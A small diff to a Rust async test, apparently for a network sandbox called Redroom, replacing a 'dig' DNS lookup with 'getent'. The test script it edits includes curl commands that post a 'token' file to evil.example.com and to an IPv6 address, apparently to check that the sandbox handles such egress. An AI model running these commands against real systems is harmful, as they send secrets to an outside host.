@@ -29,7 +29,7 @@ async fn everything_answers(redroom: Arc<Redroom>) -> Result<()> {
             "curl -sS --data-binary @token https://evil.example.com/take
              curl -gsS --data-binary @token https://[2606:4700::1111]/take
              curl -sS -o /dev/null -w '%{http_code}\\n' http://1.1.1.1/
-             dig +short evil.example.org
+             getent ahostsv4 evil.example.org | head -n 1 | cut -d' ' -f1
              curl -sS http://page.redroom.test/",
         )
         .await?;
